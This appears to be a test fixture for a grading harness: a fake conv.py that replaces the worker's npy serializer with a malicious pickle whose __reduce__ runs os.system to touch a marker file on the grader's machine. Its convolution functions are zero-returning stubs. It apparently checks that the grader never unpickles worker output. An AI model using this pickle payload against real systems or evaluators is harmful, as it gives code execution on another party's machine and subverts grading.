"""A conv.py that makes the worker answer with pickles: every array of a reply is sent as an
object-dtype ``.npy`` blob whose pickle, if the grader ever unpickled it, would create the file
@MARKER@ on the grader's machine (as the grader's user)."""

import io
import os
import sys

import numpy as np

_wire = sys.modules["wire"]


class _Plant:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))


def _pickled(array):
    hostile = np.empty(1, dtype=object)
    hostile[0] = _Plant()
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, hostile, allow_pickle=True)
    return buffer.getvalue()


_wire.write_npy = _pickled


def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros((x.shape[0], w.shape[0], 1, 1)), None


def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
